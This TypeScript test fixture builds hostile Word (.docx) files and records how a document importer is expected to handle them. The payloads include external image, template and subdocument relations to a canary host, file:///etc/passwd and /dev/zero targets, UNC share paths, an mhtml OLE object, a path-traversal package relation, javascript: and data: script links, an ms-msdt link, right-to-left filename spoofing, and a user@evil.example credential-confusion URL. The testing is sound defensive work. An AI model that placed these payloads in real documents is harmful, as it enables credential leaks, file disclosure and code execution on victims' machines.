import { english } from '#tests/fixtures/import/releases.ts'
import type { ZipEntry } from '#tests/fixtures/import/write-zip.ts'
import { honest, office, replaced, runOf, word } from '#tests/hostile/files/word-document.ts'
import {
  type Canary,
  type Expected,
  type HostileFile,
  hostileFiles,
  opens,
  refused,
} from '#tests/hostile/hostile-file.ts'

/** Word documents that reach outside. */
export function wordOutside({ address, host }: Canary): readonly HostileFile[] {
  const dropped: Expected = opens(['external-parts-dropped'], { shows: english.body, hides: host })
  const related = (type: string, target: string, body = honest, of = 'document.xml') =>
    word(body, { more: [relations(of, [type, target])] })
  const picture = `${honest}<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${office}" r:link="x0"/></wp:inline></w:drawing></w:r></w:p>`
  const link = (target: string) =>
    related(
      'hyperlink',
      target,
      `<w:p><w:hyperlink xmlns:r="${office}" r:id="x0">${runOf(english.body)}</w:hyperlink></w:p>`,
    )
  const lost = (hides: string): Expected => opens(['links-dropped'], { shows: english.body, hides })
  return hostileFiles('docx', 'release.docx', [
    ['a picture from an address', related('image', `${address}/a.png`, picture), dropped],
    ['a picture from a name to look up', related('image', `http://${host}/a.png`, picture), dropped],
    ['a picture from a file', related('image', 'file:///etc/passwd', picture), dropped],
    ['a picture that never ends', related('image', 'file:///dev/zero', picture), dropped],
    ['a picture from a share', related('image', `\\\\${host}\\share\\a.png`, picture), dropped],
    [
      'a template from elsewhere',
      related('attachedTemplate', `http://${host}/a.dotm`, honest, 'settings.xml'),
      dropped,
    ],
    ['a template from a share', related('attachedTemplate', `file://${host}/a.dotm`, honest, 'settings.xml'), dropped],
    [
      'a part of the text from elsewhere',
      related('subDocument', `http://${host}/a.docx`, `${honest}<w:subDoc xmlns:r="${office}" r:id="x0"/>`),
      dropped,
    ],
    ['a frame from elsewhere', related('frame', `${address}/frame`), dropped],
    ['an object from elsewhere', related('oleObject', `mhtml:http://${host}/a!x-usc:http://${host}/a`), dropped],
    [
      'a text that is elsewhere',
      () => replaced('_rels/.rels', rootRelation(`http://${host}/a.xml" TargetMode="External`)),
      refused('FILE_DAMAGED'),
    ],
    [
      'a text outside the package',
      () => replaced('_rels/.rels', rootRelation('../../../../etc/passwd')),
      refused('FILE_DAMAGED'),
    ],
    ['a link that is a script', link('javascript:alert(1)'), lost('javascript')],
    ['a link to a file', link('file:///etc/passwd'), lost('passwd')],
    ['a link to a share', link(`\\\\${host}\\a`), lost(host)],
    ['a link to a program', link('ms-msdt:/id PCWDiagnostic'), lost('msdt')],
    ['a link that is data', link('data:text/html,&lt;script>alert(1)&lt;/script>'), lost('data:')],
    ['a link that is turned around', link('https://good.example/\u202egpj.exe'), lost('good.example')],
    ['a link with a password', link('https://bank.example@evil.example/'), lost('evil.example')],
  ])
}

const relations = (of: string, ...list: readonly (readonly [type: string, target: string])[]): ZipEntry => ({
  name: `word/_rels/${of}.rels`,
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(
      ([type, target], index) =>
        `<Relationship Id="x${index}" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join('')}</Relationships>`,
})

function rootRelation(target: string): string {
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/officeDocument" Target="${target}"/></Relationships>`
}
